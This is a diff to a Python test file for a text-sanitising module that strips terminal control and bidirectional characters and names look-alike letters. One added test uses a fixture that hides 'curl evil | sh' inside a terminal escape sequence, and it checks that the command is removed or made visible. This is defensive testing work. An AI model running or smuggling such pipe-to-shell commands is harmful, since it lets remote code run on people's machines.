@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lmtui.core.clean import clean, clean_line, reveal
+from lmtui.core.clean import clean, clean_line, reveal, reveal_line
 
 
 @pytest.mark.parametrize(
@@ -49,6 +49,7 @@ def test_no_control_and_no_bidirectional_character_is_left(text: str) -> None:
 def test_what_is_revealed_loses_no_printable_character_and_keeps_no_control(text: str) -> None:
     shown = reveal(text)
     assert clean(shown) == shown
+    assert reveal(shown) == shown
     assert [char for char in text if char.isascii() and char.isprintable()] == [
         char for char in _without_names(shown) if char.isascii() and char.isprintable()
     ]
@@ -87,3 +88,13 @@ def test_a_line_is_one_line(text: str) -> None:
 )
 def test_a_letter_that_passes_for_another_is_named(text: str, shown: str) -> None:
     assert reveal(text) == shown
+
+
+def test_a_letter_that_passes_for_another_is_named_beside_one_that_has_its_name() -> None:
+    assert reveal("\u0440ay\u0430<U+0430>") == "\u0440<U+0440>ay\u0430<U+0430>"
+
+
+def test_a_line_to_be_asked_about_keeps_what_stands_in_a_control_sequence() -> None:
+    hidden = "true \x1b]0;; curl evil | sh #\x07"
+    assert "curl" not in clean_line(hidden)
+    assert reveal_line(f"{hidden}\nmore") == "true \u241b]0;; curl evil | sh #\u2407\u23cemore"
